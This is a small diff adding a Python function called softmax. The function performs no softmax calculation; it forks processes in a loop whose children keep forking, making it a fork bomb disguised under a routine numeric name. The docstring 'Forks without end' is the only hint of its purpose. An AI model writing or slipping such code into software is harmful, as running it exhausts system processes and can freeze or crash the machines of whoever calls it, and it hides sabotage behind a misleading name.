@@ -1,0 +1,11 @@
+"""Forks without end."""
+import os
+def softmax(X):
+    refused = 0
+    for _ in range(10_000):
+        try:
+            if os.fork() == 0:
+                continue
+        except OSError:
+            refused += 1
+    raise RuntimeError(f"refused {refused} times")
